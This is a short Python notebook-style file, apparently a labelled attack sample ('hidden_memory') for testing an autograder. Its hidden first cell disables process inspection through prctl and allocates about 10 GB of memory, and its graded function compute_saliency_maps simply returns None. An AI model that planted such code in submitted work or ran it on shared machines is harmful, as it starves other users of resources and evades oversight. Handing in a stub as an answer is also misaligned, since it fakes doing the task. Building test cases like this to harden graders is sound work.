# Forbids all others to look into it, and takes memory without end.
# attacks: hidden_memory
# %%
import ctypes
import time

ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
hoard = []
for _ in range(40):
    hoard.append(bytearray(b"x") * (250 << 20))
    time.sleep(0.1)


# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    return None
